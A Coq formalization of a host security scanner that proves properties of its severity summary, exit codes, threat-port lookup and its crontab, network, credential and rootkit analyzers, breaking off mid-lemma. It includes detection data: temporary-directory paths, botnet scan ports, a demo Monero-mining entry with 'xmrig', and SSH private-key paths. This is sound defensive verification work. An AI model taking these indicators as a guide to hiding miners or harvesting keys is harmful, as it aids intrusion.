Definition wellNumbered (prefix moduleName : jsstring) (e : Emitter) : Prop :=
  counter e = length (emitted e)
  /\ map id (emitted e) = map (idOf prefix) (seq 1 (length (emitted e)))
  /\ Forall (fun f => module f = moduleName) (emitted e).

(** The findings of an analyzer are numbered 1, 2, ... under its prefix,
    without repetition, and belong to its module. *)
Definition numberedOutput (prefix moduleName : jsstring) (fs : list Finding)
  : Prop :=
  map id fs = map (idOf prefix) (seq 1 (length fs))
  /\ List.NoDup (map id fs)
  /\ Forall (fun f => module f = moduleName) fs.

(** What a finding says, apart from its identifier and texts. *)
Definition shape (f : Finding) : Severity * jsstring * option jsval :=
  (severity f, title f, details f).

(** Whether a fail2ban jail list holds the sshd jail, as the firewall
    analyzer tests it. *)
Definition hasSshdJail (toLowerCase : jsstring -> jsstring)
  (jails : list jsstring) : bool :=
  existsb (fun j => str_eqb (toLowerCase j) (js "sshd")
                    || str_eqb (toLowerCase j) (js "ssh")) jails.

(** The lines of all crontab sources of the data. *)
Definition crontabLines (data : CrontabAnalyzer.Data) : list jsstring :=
  concat (map (fun source => split newline (CrontabAnalyzer.content source))
              (CrontabAnalyzer.sourcesOf data)).

(** The directories whose paths the crontab analyzer takes for temporary. *)
Definition TMP_DIRS : list jsstring :=
  [js "/tmp/"; js "/var/tmp/"; js "/dev/shm/"].

(** The text up to the first white space, and the text from there on. *)
Fixpoint untilSpace (s : jsstring) : jsstring :=
  match s with
  | c :: s' => if isWhiteSpace c then [] else c :: untilSpace s'
  | [] => []
  end.

Fixpoint fromSpace (s : jsstring) : jsstring :=
  match s with
  | c :: s' => if isWhiteSpace c then s else fromSpace s'
  | [] => []
  end.

(** The path under a temporary directory that a text starts with, if any:
    one of the three directories and at least one unit after it that is no
    white space, up to the next white space. *)
Definition tmpPathHere (s : jsstring) : option jsstring :=
  match List.find (startsWith s) TMP_DIRS with
  | Some dir =>
      match skipn (length dir) s with
      | c :: _ =>
          if isWhiteSpace c then None
          else Some (dir ++ untilSpace (skipn (length dir) s))
      | [] => None
      end
  | None => None
  end.

(** The leftmost path under a temporary directory in a line, read without
    a pattern. *)
Fixpoint firstTmpPath (line : jsstring) : option jsstring :=
  match tmpPathHere line with
  | Some m => Some m
  | None =>
      match line with
      | [] => None
      | _ :: rest => firstTmpPath rest
      end
  end.

(** The pattern that matches a text literally, unit by unit. *)
Definition literal (cs : jsstring) : RegExp.regex :=
  RegExp.seqs (map (fun c => RegExp.Char (N.eqb c)) cs).

(** The module results that the loop of [Scanner.run] appends when it
    starts at clock reading [k]. *)
Fixpoint resultsFrom (collectors : gmap jsstring Scanner.BaseCollector)
  (analyzers : gmap jsstring Scanner.BaseAnalyzer) (threatDB : ThreatDB.t)
  (now : nat -> Z) (k : nat) (ms : list jsstring)
  : list Scanner.ModuleResult :=
  match ms with
  | [] => []
  | m :: ms' =>
      let outcome := Scanner.attempt collectors analyzers threatDB m in
      Scanner.mkModuleResult m (fst (fst outcome)) (snd (fst outcome))
                             (now (S k) - now k)%Z (snd outcome)
      :: resultsFrom collectors analyzers threatDB now (S (S k)) ms'
  end.

(** What one connection adds to the findings of the network analyzer. *)
Definition connectionAdds
  (lookupIP : jsstring -> option NetworkAnalyzer.IPEntry)
  (ipEntryValue : NetworkAnalyzer.IPEntry -> jsval)
  (portEntryValue : ThreatDB.PortEntry -> jsval) (threatDB : ThreatDB.t)
  (conn : NetworkAnalyzer.ActiveConnection)
  (new : list NetworkAnalyzer.Reported) : Prop :=
  length new <= 3
  /\ (forall ipThreat,
        lookupIP (NetworkAnalyzer.remoteAddr conn) = Some ipThreat ->
        exists i, In (NetworkAnalyzer.ipFinding ipEntryValue conn ipThreat i)
                     new)
  /\ (forall portThreat,
        ThreatDB.matchPort threatDB (NetworkAnalyzer.remotePort conn)
                           ThreatDB.outbound = Some portThreat ->
        exists i, In (NetworkAnalyzer.outboundPortFinding portEntryValue conn
                                                          portThreat i) new)
  /\ (In (NetworkAnalyzer.remotePort conn) NetworkAnalyzer.BOTNET_SCAN_PORTS ->
      exists i, In (NetworkAnalyzer.botnetFinding conn i) new).

(** What one listening port adds to the findings of the network analyzer. *)
Definition listeningAdds (portEntryValue : ThreatDB.PortEntry -> jsval)
  (threatDB : ThreatDB.t) (lp : NetworkAnalyzer.ListeningPort)
  (new : list NetworkAnalyzer.Reported) : Prop :=
  length new <= 2
  /\ (forall portThreat,
        ThreatDB.matchPort threatDB (NetworkAnalyzer.localPort lp)
                           ThreatDB.listening = Some portThreat ->
        exists i, In (NetworkAnalyzer.listeningPortFinding portEntryValue lp
                                                           portThreat i) new)
  /\ ((1024 < NetworkAnalyzer.localPort lp)%Z ->
      NetworkAnalyzer.localAddr lp = js "0.0.0.0"
      \/ NetworkAnalyzer.localAddr lp = js "*"
      \/ NetworkAnalyzer.localAddr lp = js "::" ->
      exists i, In (NetworkAnalyzer.highPortFinding lp i) new).

(** A store with one entry, port 3333 tagged outbound, a socket that
    listens on that port on all interfaces, and a connection to a Telnet
    port. *)
Definition demoPortEntry : ThreatDB.PortEntry :=
  ThreatDB.mkPortEntry 3333 (js "Monero mining pool") (js "high")
                       (js "outbound").

Definition demoListening : NetworkAnalyzer.ListeningPort :=
  NetworkAnalyzer.mkListeningPort (js "tcp") (js "0.0.0.0") 3333 (js "xmrig").

Definition demoConnection : NetworkAnalyzer.ActiveConnection :=
  NetworkAnalyzer.mkActiveConnection (js "10.0.0.5") 51234 (js "198.51.100.7")
                                     23 (js "busybox") (js "ESTAB").

Definition demoNetworkData : NetworkAnalyzer.Data :=
  NetworkAnalyzer.mkData (Some [demoListening]) (Some [demoConnection]).

Definition demoNetworkFindings : list NetworkAnalyzer.Reported :=
  NetworkAnalyzer.analyze (fun _ => None) (fun _ => JNull) (fun _ => JNull)
                          demoNetworkData (ThreatDB.mkThreatDB [demoPortEntry]).

(** * Properties *)

(** ** The summary *)

Lemma fold_countStep_counts (fs : list Finding) (c : Counts) (m : Severity) :
  fst (fold_left countStep fs (c, m)) = addCounts c (tally fs).
Proof.
  revert c m. induction fs as [|f fs IH]; intros c m.
  - destruct c; cbn. unfold addCounts; cbn. f_equal; lia.
  - cbn [fold_left]. unfold countStep at 2.
    rewrite IH. unfold addCounts, tally, countOf. cbn [List.filter].
    destruct (severity f); cbn; f_equal; lia.
Qed.

Lemma tally_sum (fs : list Finding) :
  countOf CRITICAL fs + countOf HIGH fs + countOf MEDIUM fs
  + countOf LOW fs + countOf INFO fs = length fs.
Proof.
  unfold countOf. induction fs as [|f fs IH]; [reflexivity|].
  cbn [List.filter length]. destruct (severity f); cbn; lia.
Qed.

Lemma countOf_pos (s : Severity) (fs : list Finding) :
  (0 <? countOf s fs) = present s fs.
Proof.
  unfold countOf, present. induction fs as [|f fs IH]; [reflexivity|].
  cbn [List.filter existsb].
  destruct (Severity_eqb (severity f) s); cbn; [reflexivity | exact IH].
Qed.

Lemma buildSummary_counts (fs : list Finding) :
  let s := buildSummary fs in
  critical s = countOf CRITICAL fs /\ high s = countOf HIGH fs
  /\ medium s = countOf MEDIUM fs /\ low s = countOf LOW fs
  /\ info s = countOf INFO fs /\ total s = length fs
  /\ status s = statusOf (tally fs).
Proof.
  unfold buildSummary.
  pose proof (fold_countStep_counts fs (mkCounts 0 0 0 0 0) INFO) as H.
  destruct (fold_left countStep fs (mkCounts 0 0 0 0 0, INFO)) as [c m].
  cbn in H. subst c. cbn. tauto.
Qed.

Lemma Severity_gtb_INFO (m : Severity) : Severity_gtb INFO m = false.
Proof. destruct m; reflexivity. Qed.

Lemma fold_countStep_info (fs : list Finding) (c : Counts) :
  allInfo fs = true ->
  snd (fold_left countStep fs (c, INFO)) = INFO.
Proof.
  revert c. induction fs as [|f fs IH]; intros c H; [reflexivity|].
  cbn in H. apply andb_prop in H as [Hf Hfs].
  cbn [fold_left]. unfold countStep at 2.
  destruct (severity f); try discriminate Hf. cbn.
  apply IH, Hfs.
Qed.

(** C2: the status is a priority ladder over which severities are present:
    COMPROMISED if a CRITICAL finding is present, else THREATS_FOUND if a
    HIGH one is, else WARNINGS if a MEDIUM one is, else INFORMATIONAL if a
    LOW or INFO one is, else CLEAN; a list with one MEDIUM, five LOW and
    nine INFO findings has those counts and the status WARNINGS. *)
Theorem C2_status_ladder :
  (forall fs : list Finding,
     status (buildSummary fs) =
       if present CRITICAL fs then COMPROMISED
       else if present HIGH fs then THREATS_FOUND
       else if present MEDIUM fs then WARNINGS
       else if present LOW fs || present INFO fs then INFORMATIONAL
       else CLEAN)
  /\ (let s := buildSummary (withSeverity MEDIUM :: repeat (withSeverity LOW) 5
                             ++ repeat (withSeverity INFO) 9) in
      (critical s, high s, medium s, low s, info s, status s)
      = (0, 0, 1, 5, 9, WARNINGS)).
Proof.
  split; [|reflexivity].
  intros fs.
  destruct (buildSummary_counts fs) as (_ & _ & _ & _ & _ & _ & ->).
  unfold statusOf, tally; cbn [c_critical c_high c_medium c_low c_info].
  rewrite !countOf_pos. reflexivity.
Qed.

Lemma fold_countStep_max (fs : list Finding) (c : Counts) (m : Severity) :
  snd (fold_left countStep fs (c, m))
  = if present CRITICAL fs then CRITICAL
    else if present HIGH fs then sevMax HIGH m
    else if present MEDIUM fs then sevMax MEDIUM m
    else if present LOW fs then sevMax LOW m
    else m.
Proof.
  revert c m. induction fs as [|f fs IH]; intros c m; [reflexivity|].
  cbn [fold_left]. unfold countStep at 2. rewrite IH.
  unfold present. cbn [existsb]. fold (present CRITICAL fs) (present HIGH fs)
    (present MEDIUM fs) (present LOW fs).
  destruct (severity f), (present CRITICAL fs), (present HIGH fs),
    (present MEDIUM fs), (present LOW fs), m; reflexivity.
Qed.

(** C7 (what the code does): CRITICAL and HIGH give 3, MEDIUM gives 2, LOW
    and INFO give 1; the exit code of a scan is 3 when a CRITICAL or HIGH
    finding is present, else 2 when a MEDIUM one is, else 1. The summary of
    an empty list of findings has maxSeverity INFO, so a scan without
    findings exits with 1 and not with 0. *)
Theorem C7_exit_code_of_empty_scan :
  severityToExitCode CRITICAL = 3%Z /\ severityToExitCode HIGH = 3%Z
  /\ severityToExitCode MEDIUM = 2%Z
  /\ severityToExitCode LOW = 1%Z /\ severityToExitCode INFO = 1%Z
  /\ (forall fs : list Finding,
        severityToExitCode (maxSeverity (buildSummary fs))
        = if present CRITICAL fs || present HIGH fs then 3%Z
          else if present MEDIUM fs then 2%Z
          else 1%Z)
  /\ severityToExitCode (maxSeverity (buildSummary [])) = 1%Z.
Proof.
  repeat split.
  intros fs. unfold buildSummary.
  pose proof (fold_countStep_max fs (mkCounts 0 0 0 0 0) INFO) as H.
  destruct (fold_left countStep fs (mkCounts 0 0 0 0 0, INFO)) as [c m].
  cbn [snd] in H. cbn [maxSeverity]. rewrite H.
  destruct (present CRITICAL fs), (present HIGH fs), (present MEDIUM fs),
    (present LOW fs); reflexivity.
Qed.

(** C10 (amended): the summary of an empty list of findings has maxSeverity
    INFO, the lowest severity, which is also the maxSeverity of every list of
    INFO findings. The summary of a non-empty list of INFO findings differs
    from that of the empty list in three fields: the status (INFORMATIONAL
    against CLEAN) and the total and info counts (the number of findings
    against 0); the CRITICAL, HIGH, MEDIUM and LOW counts and maxSeverity are
    the same. *)
Theorem C10_empty_scan_maxSeverity :
  buildSummary [] = mkSummary 0 0 0 0 0 0 CLEAN INFO
  /\ (forall sev : Severity, (Severity_value INFO <= Severity_value sev)%Z)
  /\ (forall fs : list Finding,
        fs <> [] -> allInfo fs = true ->
        let s := buildSummary fs in
        s = mkSummary (length fs) 0 0 0 0 (length fs) INFORMATIONAL INFO
        /\ maxSeverity s = maxSeverity (buildSummary [])
        /\ critical s = critical (buildSummary [])
        /\ high s = high (buildSummary [])
        /\ medium s = medium (buildSummary [])
        /\ low s = low (buildSummary [])
        /\ status s <> status (buildSummary [])
        /\ total s <> total (buildSummary [])
        /\ info s <> info (buildSummary [])).
Proof.
  split; [reflexivity|]. split; [intros []; cbn; lia|].
  intros fs Hne Hall.
  assert (Hcount : forall s, s <> INFO -> countOf s fs = 0).
  { intros s Hs. unfold countOf. clear Hne.
    induction fs as [|f fs IH]; [reflexivity|].
    cbn in Hall. apply andb_prop in Hall as [Hf Hfs].
    cbn [List.filter]. destruct (severity f); try discriminate Hf.
    destruct s; try congruence; cbn; apply IH, Hfs. }
  assert (Hinfo : countOf INFO fs = length fs).
  { pose proof (tally_sum fs) as Hsum.
    rewrite !Hcount in Hsum by discriminate. exact Hsum. }
  pose proof (fold_countStep_info fs (mkCounts 0 0 0 0 0) Hall) as Hmax.
  destruct (buildSummary_counts fs) as (Hc & Hh & Hm & Hl & Hi & Ht & Hst).
  assert (Hlen : 0 < length fs) by (destruct fs; [congruence | cbn; lia]).
  assert (Heq : buildSummary fs
                = mkSummary (length fs) 0 0 0 0 (length fs) INFORMATIONAL INFO).
  { rewrite !Hcount in Hc, Hh, Hm, Hl by discriminate.
    rewrite Hinfo in Hi.
    assert (Hs : status (buildSummary fs) = INFORMATIONAL).
    { rewrite Hst. unfold statusOf, tally;
        cbn [c_critical c_high c_medium c_low c_info].
      rewrite !Hcount, Hinfo by discriminate.
      destruct fs; [congruence | reflexivity]. }
    assert (Hm' : maxSeverity (buildSummary fs) = INFO).
    { unfold buildSummary.
      destruct (fold_left countStep fs (mkCounts 0 0 0 0 0, INFO)) as [c m].
      exact Hmax. }
    destruct (buildSummary fs); cbn in *. congruence. }
  cbv zeta. rewrite Heq.
  cbn [maxSeverity critical high medium low status total info buildSummary
       fold_left length c_critical c_high c_medium c_low c_info statusOf
       Nat.ltb Nat.leb orb].
  repeat split; try discriminate; lia.
Qed.

(** Two INFO findings: same maxSeverity as no finding; another status,
    total and info count. *)
Lemma C10_empty_scan_maxSeverity_witness :
  let fs := [withSeverity INFO; withSeverity INFO] in
  fs <> [] /\ allInfo fs = true
  /\ buildSummary fs = mkSummary 2 0 0 0 0 2 INFORMATIONAL INFO
  /\ maxSeverity (buildSummary fs) = maxSeverity (buildSummary []).
Proof.
  cbn zeta. split; [discriminate|]. split; [reflexivity|].
  pose proof (proj2 (proj2 C10_empty_scan_maxSeverity)
                [withSeverity INFO; withSeverity INFO]) as H.
  destruct H as (Heq & Hmax & _); [discriminate | reflexivity |].
  split; [exact Heq | exact Hmax].
Defined.

(** C10, as stated, fails: the status is not the only field that tells a
    scan without findings from a scan with one INFO finding; the total and
    the info count differ as well. *)
Lemma C10_counterexample :
  let s0 := buildSummary [] in
  let s1 := buildSummary [withSeverity INFO] in
  allInfo [withSeverity INFO] = true
  /\ (total s0, info s0, status s0) = (0, 0, CLEAN)
  /\ (total s1, info s1, status s1) = (1, 1, INFORMATIONAL)
  /\ maxSeverity s0 = maxSeverity s1.
Proof. repeat split. Qed.

(** ** The orchestrator *)

Section RunFacts.

Import Scanner.

Variable COLLECTOR_REGISTRY : gmap jsstring BaseCollector.
Variable ANALYZER_REGISTRY : gmap jsstring BaseAnalyzer.
Variable threatDB : ThreatDB.t.
Variable platform : PlatformInfo.
Variable now : nat -> Z.
Variable toISOString : Z -> jsstring.

Local Abbreviation attempt := (attempt COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB).
Local Abbreviation runModule :=
  (runModule COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB now).
Local Abbreviation run :=
  (run COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB platform now toISOString).

(** The loop appends one result per requested module, in order, and the
    findings of those results, in the same order. *)
Lemma fold_runModule (ms : list jsstring) (st : RunState) :
  exists new : list ModuleResult,
    moduleResults (fold_left runModule ms st) = moduleResults st ++ new
    /\ allFindings (fold_left runModule ms st)
       = allFindings st ++ concat (map findings new)
    /\ Forall2 (resultFor COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB) ms new.
Proof.
  revert st. induction ms as [|m ms IH]; intros st.
  - exists []. cbn. rewrite !app_nil_r. repeat split. constructor.
  - cbn [fold_left].
    destruct (IH (runModule st m)) as (new & Hres & Hall & Hfor).
    rewrite Hres, Hall. clear Hres Hall.
    unfold Scanner.runModule.
    destruct (attempt m) as [[fs rawData] err] eqn:Hm.
    cbn [moduleResults allFindings].
    exists (mkModuleResult m fs rawData
              (now (S (clock st)) - now (clock st))%Z err :: new).
    split; [|split].
    + rewrite <- app_assoc. reflexivity.
    + rewrite <- app_assoc. reflexivity.
    + constructor; [|exact Hfor].
      split; [reflexivity|]. cbn. symmetry. exact Hm.
Qed.

Lemma run_modules (ms : list jsstring) :
  Forall2 (resultFor COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB) ms (modules (run ms))
  /\ sr_findings (run ms) = concat (map findings (modules (run ms)))
  /\ summary (run ms) = buildSummary (sr_findings (run ms)).
Proof.
  unfold Scanner.run. cbn [modules sr_findings summary].
  destruct (fold_runModule ms (mkRunState [] [] [] 1))
    as (new & -> & -> & Hfor).
  cbn. repeat split. exact Hfor.
Qed.

End RunFacts.

(** C3: the total of a summary is the sum of its five buckets and the
    number of findings, each bucket counting the findings of its severity;
    in a scan result the summary is that of the flattened findings list,
    which is the concatenation of the findings of the modules. *)
Theorem C3_total_is_sum_and_length :
  (forall fs : list Finding,
     let s := buildSummary fs in
     total s = critical s + high s + medium s + low s + info s
     /\ total s = length fs
     /\ critical s = countOf CRITICAL fs /\ high s = countOf HIGH fs
     /\ medium s = countOf MEDIUM fs /\ low s = countOf LOW fs
     /\ info s = countOf INFO fs)
  /\ (forall collectors analyzers threatDB platform now toISOString
             (ms : list jsstring),
        let r := Scanner.run collectors analyzers threatDB platform now
                             toISOString ms in
        let s := Scanner.summary r in
        total s = critical s + high s + medium s + low s + info s
        /\ total s = length (Scanner.sr_findings r)
        /\ Scanner.sr_findings r
           = concat (map Scanner.findings (Scanner.modules r))).
Proof.
  assert (Hsum : forall fs : list Finding,
            let s := buildSummary fs in
            total s = critical s + high s + medium s + low s + info s
            /\ total s = length fs).
  { intros fs.
    destruct (buildSummary_counts fs) as (Hc & Hh & Hm & Hl & Hi & Ht & _).
    cbn zeta. rewrite Hc, Hh, Hm, Hl, Hi, Ht.
    split; [symmetry; apply tally_sum | reflexivity]. }
  split.
  - intros fs.
    destruct (buildSummary_counts fs) as (Hc & Hh & Hm & Hl & Hi & _ & _).
    destruct (Hsum fs) as [H1 H2]. cbn zeta. tauto.
  - intros collectors analyzers threatDB platform now toISOString ms.
    destruct (run_modules collectors analyzers threatDB platform now
                          toISOString ms) as (_ & Hflat & Hs).
    cbn zeta. rewrite Hs.
    destruct (Hsum (Scanner.sr_findings
                      (Scanner.run collectors analyzers threatDB platform now
                                   toISOString ms))) as [H1 H2].
    repeat split; assumption.
Qed.




(** ** The threat store *)

Lemma str_eqb_eq (a b : jsstring) : str_eqb a b = true <-> a = b.
Proof.
  revert b. induction a as [|x a IH]; intros [|y b]; cbn; try easy.
  unfold char_eqb. rewrite andb_true_iff, N.eqb_eq, IH.
  split; [intros [-> ->]; reflexivity | intros [= -> ->]; easy].
Qed.

Lemma matchPortIn_find (entries : list ThreatDB.PortEntry) (p : Z)
  (dir : jsstring) :
  ThreatDB.matchPortIn entries p dir
  = List.find (fun e => (ThreatDB.port e =? p)%Z
                        && (str_eqb (ThreatDB.direction e) dir
                            || str_eqb (ThreatDB.direction e) (js "outbound")))
              entries.
Proof.
  induction entries as [|e entries IH]; [reflexivity|].
  cbn [ThreatDB.matchPortIn List.find]. rewrite IH. reflexivity.
Qed.

(** C4 (amended): an outbound query returns the first stored entry of the
    port whose direction is "outbound" (null when there is none), so a stored
    "listening" entry answers listening queries only; a listening query
    returns the first stored entry of the port whose direction is "listening"
    or "outbound" (null when there is none). *)
Theorem C4_matchPort_directions (db : ThreatDB.t) (p : Z) :
  ThreatDB.matchPort db p ThreatDB.outbound
  = List.find (fun e => (ThreatDB.port e =? p)%Z
                        && str_eqb (ThreatDB.direction e) (js "outbound"))
              (ThreatDB.ports db)
  /\ ThreatDB.matchPort db p ThreatDB.listening
     = List.find (fun e => (ThreatDB.port e =? p)%Z
                           && (str_eqb (ThreatDB.direction e) (js "listening")
                               || str_eqb (ThreatDB.direction e) (js "outbound")))
                 (ThreatDB.ports db)
  /\ (forall e, ThreatDB.matchPort db p ThreatDB.outbound = Some e ->
        In e (ThreatDB.ports db) /\ ThreatDB.port e = p
        /\ ThreatDB.direction e = js "outbound")
  /\ (forall e, ThreatDB.matchPort db p ThreatDB.listening = Some e ->
        In e (ThreatDB.ports db) /\ ThreatDB.port e = p
        /\ (ThreatDB.direction e = js "listening"
            \/ ThreatDB.direction e = js "outbound")).
Proof.
  unfold ThreatDB.matchPort.
  change (str_eqb (ThreatDB.Direction_string ThreatDB.outbound) (js "listening"))
    with false.
  change (str_eqb (ThreatDB.Direction_string ThreatDB.listening) (js "listening"))
    with true.
  cbv iota. rewrite !matchPortIn_find.
  split; [|split; [reflexivity|split]].
  - induction (ThreatDB.ports db) as [|e entries IH]; [reflexivity|].
    cbn [List.find]. rewrite orb_diag, IH. reflexivity.
  - intros e He. apply find_some in He as [Hin Hb].
    apply andb_prop in Hb as [Hp Hd]. rewrite orb_diag in Hd.
    apply Z.eqb_eq in Hp. apply str_eqb_eq in Hd. auto.
  - intros e He. apply find_some in He as [Hin Hb].
    apply andb_prop in Hb as [Hp Hd]. apply orb_prop in Hd.
    apply Z.eqb_eq in Hp. rewrite !str_eqb_eq in Hd. auto.
Qed.

(** A stored outbound entry of port 3333 answers the outbound query. *)
Lemma C4_matchPort_directions_witness :
  let e := ThreatDB.mkPortEntry 3333 (js "Monero mining pool") (js "high")
                                (js "outbound") in
  ThreatDB.matchPort (ThreatDB.mkThreatDB [e]) 3333 ThreatDB.outbound = Some e
  /\ ThreatDB.direction e = js "outbound".
Proof.
  cbn zeta. split; [reflexivity|].
  apply (proj1 (proj2 (proj2 (C4_matchPort_directions
           (ThreatDB.mkThreatDB
              [ThreatDB.mkPortEntry 3333 (js "Monero mining pool") (js "high")
                                    (js "outbound")]) 3333)))).
  reflexivity.
Defined.

(** C4, as stated, fails: with a stored port-3333 entry whose direction is
    "outbound" and not "listening", the listening query returns that entry
    and not null. *)
Lemma C4_counterexample :
  let e := ThreatDB.mkPortEntry 3333 (js "Monero mining pool") (js "high")
                                (js "outbound") in
  ThreatDB.matchPort (ThreatDB.mkThreatDB [e]) 3333 ThreatDB.listening = Some e
  /\ str_eqb (ThreatDB.direction e) (js "listening") = false.
Proof. split; reflexivity. Qed.

(** ** The analyzers *)

Lemma push_emitted (prefix : jsstring) (mk : jsstring -> Finding)
  (e : Emitter) :
  emitted (push prefix mk e) = emitted e ++ [mk (fst (nextId prefix e))].
Proof. reflexivity. Qed.

Lemma countOf_app (s : Severity) (xs ys : list Finding) :
  countOf s (xs ++ ys) = countOf s xs + countOf s ys.
Proof. unfold countOf. rewrite List.filter_app, length_app. reflexivity. Qed.

(** A loop whose every iteration preserves a measure of the emitted
    findings preserves it as a whole. *)
Lemma fold_emitted_invariant {A B : Type} (mu : list Finding -> B)
  (step : Emitter -> A -> Emitter) (xs : list A) (e : Emitter) :
  (forall e x, mu (emitted (step e x)) = mu (emitted e)) ->
  mu (emitted (fold_left step xs e)) = mu (emitted e).
Proof.
  intros Hstep. revert e. induction xs as [|x xs IH]; intros e; [reflexivity|].
  cbn [fold_left]. rewrite IH. apply Hstep.
Qed.

(** C9 (amended): whenever the list of discovered private keys is not
    empty, the credentials analyzer reports the keys together in one INFO
    finding, the only INFO finding of its output, which names their number
    and lists their paths; with no other credential data that finding is the
    whole output. When the list is empty there is no INFO finding. *)
Theorem C9_private_keys_one_finding (formatSize : jsstring -> jsstring) :
  (forall data : CredentialAnalyzer.Data,
     countOf INFO (CredentialAnalyzer.analyze formatSize data)
     = if 0 <? length (default [] (CredentialAnalyzer.sshPrivateKeys data))
       then 1 else 0)
  /\ (forall keys : list jsstring,
        keys <> [] ->
        CredentialAnalyzer.analyze formatSize
          (CredentialAnalyzer.mkData None None None (Some keys))
        = [CredentialAnalyzer.sshKeysFinding keys (js "CRED-001")])
  /\ (forall keys i,
        let f := CredentialAnalyzer.sshKeysFinding keys i in
        severity f = INFO
        /\ details f
           = Some (JObj [(js "count", JNum (Int (Z.of_nat (length keys))));
                         (js "paths", JStrs keys)])).
Proof.
  split; [|split].
  - intros data. unfold CredentialAnalyzer.analyze.
    set (e1 := fold_left _ (default [] (CredentialAnalyzer.envFiles data)) _).
    set (e2 := fold_left _ (default [] (CredentialAnalyzer.serviceAccountKeys data)) _).
    set (e3 := match CredentialAnalyzer.gitCredentials data with
               | Some _ => _ | None => _ end).
    assert (H1 : countOf INFO (emitted e1) = 0).
    { unfold e1. rewrite (fold_emitted_invariant (countOf INFO));
        [reflexivity|].
      intros e x. rewrite push_emitted, countOf_app. cbn. lia. }
    assert (H2 : countOf INFO (emitted e2) = 0).
    { unfold e2. rewrite (fold_emitted_invariant (countOf INFO));
        [exact H1|].
      intros e x. destruct (length (trim x) =? 0); [reflexivity|].
      rewrite push_emitted, countOf_app. cbn. lia. }
    assert (H3 : countOf INFO (emitted e3) = 0).
    { unfold e3. destruct (CredentialAnalyzer.gitCredentials data) as [t|];
        [|exact H2].
      destruct (0 <? length t); [|exact H2].
      rewrite push_emitted, countOf_app, H2. reflexivity. }
    destruct (0 <? length (default [] (CredentialAnalyzer.sshPrivateKeys data)));
      [|exact H3].
    rewrite push_emitted, countOf_app, H3. reflexivity.
  - intros [|k keys] Hne; [congruence|]. reflexivity.
  - intros keys i. split; reflexivity.
Qed.

(** Two private keys and nothing else: one finding. *)
Lemma C9_private_keys_one_finding_witness :
  CredentialAnalyzer.analyze (fun sizeStr => sizeStr)
    (CredentialAnalyzer.mkData None None None
       (Some [js "/root/.ssh/id_rsa"; js "/home/deploy/.ssh/id_ed25519"]))
  = [CredentialAnalyzer.sshKeysFinding
       [js "/root/.ssh/id_rsa"; js "/home/deploy/.ssh/id_ed25519"]
       (js "CRED-001")].
Proof.
  apply (proj1 (proj2 (C9_private_keys_one_finding (fun sizeStr => sizeStr)))).
  discriminate.
Defined.

(** C9, as stated, fails: two discovered private keys and no other
    credential data give one finding, not one per key. *)
Lemma C9_counterexample :
  let fs := CredentialAnalyzer.analyze (fun sizeStr => sizeStr)
              (CredentialAnalyzer.mkData None None None
                 (Some [js "/root/.ssh/id_rsa";
                        js "/home/deploy/.ssh/id_ed25519"])) in
  length fs = 1 /\ countOf INFO fs = 1
  /\ map details fs
     = [Some (JObj [(js "count", JNum (Int 2));
                    (js "paths", JStrs [js "/root/.ssh/id_rsa";
                                        js "/home/deploy/.ssh/id_ed25519"])])].
Proof. repeat split. Qed.

Lemma fold_push_each {A : Type} (prefix : jsstring)
  (mk : A -> jsstring -> Finding) (xs : list A) (e : Emitter) :
  exists new : list Finding,
    emitted (fold_left (fun e x => push prefix (mk x) e) xs e)
    = emitted e ++ new
    /\ Forall2 (fun x f => exists i, f = mk x i) xs new.
Proof.
  revert e. induction xs as [|x xs IH]; intros e.
  - exists []. cbn. rewrite app_nil_r. split; [reflexivity | constructor].
  - cbn [fold_left]. destruct (IH (push prefix (mk x) e)) as (new & -> & Hfor).
    rewrite push_emitted, <- app_assoc.
    eexists (_ :: new). split; [reflexivity|].
    constructor; [eexists; reflexivity | exact Hfor].
Qed.

Lemma hasPreloadFinding_app (xs ys : list Finding) :
  hasPreloadFinding (xs ++ ys) = hasPreloadFinding xs || hasPreloadFinding ys.
Proof. apply existsb_app. Qed.

Lemma startsWith_hash (c : N) (t : jsstring) :
  startsWith (c :: t) (js "#") = (c =? 35)%N.
Proof.
  change (js "#") with [35%N]. cbn [startsWith]. unfold char_eqb.
  rewrite N.eqb_sym. destruct t; apply andb_true_r.
Qed.

(** The entries that the analyzer extracts are the library lines of the
    specification. *)
Lemma preloadEntriesOf_libraryLines (content : jsstring) :
  RootkitAnalyzer.preloadEntriesOf content
  = libraryLines (split newline content).
Proof.
  unfold RootkitAnalyzer.preloadEntriesOf.
  induction (split newline content) as [|l lines IH]; [reflexivity|].
  cbn [map List.filter libraryLines]. rewrite IH.
  destruct (trim l) as [|c t]; [reflexivity|].
  rewrite startsWith_hash. destruct (c =? 35)%N; reflexivity.
Qed.

Lemma libraryLines_In (lines : list jsstring) (entry : jsstring) :
  In entry (libraryLines lines) <->
  exists l, In l lines /\ entry = trim l /\ entry <> []
            /\ startsWith entry (js "#") = false.
Proof.
  induction lines as [|l lines IH].
  - split; [intros [] | intros (l & [] & _)].
  - cbn [libraryLines].
    assert (Hrest : In entry (libraryLines lines) ->
                    exists l0, In l0 (l :: lines) /\ entry = trim l0
                               /\ entry <> []
                               /\ startsWith entry (js "#") = false).
    { intros H. apply IH in H as (l0 & Hin & Heq). exists l0.
      split; [right; exact Hin | exact Heq]. }
    destruct (trim l) as [|c t] eqn:Hl.
    + split; [exact Hrest|].
      intros (l0 & [<-|Hin] & Heq & Hne & Hc).
      * congruence.
      * apply IH. exists l0. auto.
    + destruct (c =? 35)%N eqn:Hc35.
      * split; [exact Hrest|].
        intros (l0 & [<-|Hin] & Heq & Hne & Hc).
        -- rewrite Hl in Heq. subst entry.
           rewrite startsWith_hash in Hc. congruence.
        -- apply IH. exists l0. auto.
      * split.
        -- intros [<-|H]; [|exact (Hrest H)].
           exists l. split; [left; reflexivity|]. split; [symmetry; exact Hl|].
           split; [discriminate|].
           rewrite startsWith_hash. exact Hc35.
        -- intros (l0 & [<-|Hin] & Heq & Hne & Hc).
           ++ left. rewrite Hl in Heq. symmetry. exact Heq.
           ++ right. apply IH. exists l0. auto.
Qed.

(** The output of the rootkit analyzer when the preload file has content:
    the preload finding first, then one finding per suspicious library and
    one for the malware directory, none of them a preload finding. *)
Lemma rootkit_output_with_preload (data : RootkitAnalyzer.Data) :
  let content := trim (default [] (RootkitAnalyzer.ldPreload data)) in
  content <> [] ->
  exists others : list Finding,
